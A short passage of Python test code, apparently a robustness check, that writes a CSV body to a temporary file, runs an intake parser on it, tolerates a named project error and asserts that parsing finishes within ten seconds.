    with tempfile.TemporaryDirectory() as tmp:
        p = Path(tmp) / f"{kind}.csv"
        p.write_bytes(body if isinstance(body, bytes) else (_HEADERS[kind] + body).encode("utf-8", "surrogatepass"))
        t0 = time.perf_counter()
        try:
            _intake(kind)(p)
        except FcatlasError as exc:
            assert str(exc)
        assert time.perf_counter() - t0 < 10
